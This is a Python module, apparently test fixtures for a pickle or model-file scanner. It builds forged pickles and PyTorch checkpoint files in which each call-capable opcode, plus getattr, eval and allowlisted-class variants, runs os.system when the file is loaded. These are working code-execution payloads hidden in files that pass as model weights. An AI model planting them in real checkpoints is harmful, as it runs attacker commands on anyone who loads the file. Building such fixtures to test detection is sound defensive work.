"""Pickles that run a command when Python loads them, one for each opcode that can call."""

from forged_files import TensorOf, float_storage, pickled, wrap_pickle

EXTENSIONS = {0x7F: b"\x82\x7f", 0x7FFE: b"\x83\xfe\x7f", 0x7FFFFFFE: b"\x84\xfe\xff\xff\x7f"}


def text(words):
    data = words.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def short(words):
    return b"\x8c" + bytes([len(words)]) + words.encode()


def in_a_checkpoint(code):
    """The pickle of a dictionary of weights, an entry of which is made by `code`."""
    weights = pickled({"a.weight": TensorOf(float_storage(), 0, (2, 3), (3, 1))})[2:-1]
    return b"\x80\x04}" + text("state_dict") + weights + b"s" + text("extra") + code + b"s."


def checkpoint(folder, code, *, legacy=False):
    code = in_a_checkpoint(code)
    return wrap_pickle(folder / "w.pth", code, legacy=legacy, storages={"0": bytes(24)})


# %b stands for the text of a shell command that leaves a mark
CALLS = {
    "REDUCE": (b"cos\nsystem\n%b\x85R", "os.system"),
    "REDUCE of a tuple on a mark": (b"cos\nsystem\n(%btR", "os.system"),
    "INST": (b"(%bios\nsystem\n", "os.system"),
    "OBJ": (b"(cos\nsystem\n%bo", "os.system"),
    "STACK_GLOBAL": (short("os") + short("system") + b"\x93%b\x85R", "os.system"),
    "GET": (b"cos\nsystem\np7\n0g7\n%b\x85R", "os.system"),
    "getattr": (
        b"cbuiltins\ngetattr\ncos\nsystem\n" + text("__call__") + b"\x86R%b\x85R",
        "builtins.getattr",
    ),
    "eval": (
        b"cbuiltins\neval\n" + text("__import__('os').system") + b"\x85R%b\x85R",
        "builtins.eval",
    ),
    "a method of a listed class": (
        short("collections") + short("OrderedDict.fromkeys") + b"\x93(%b]tR0cos\nsystem\n%b\x85R",
        "collections.OrderedDict.fromkeys, os.system",
    ),
}
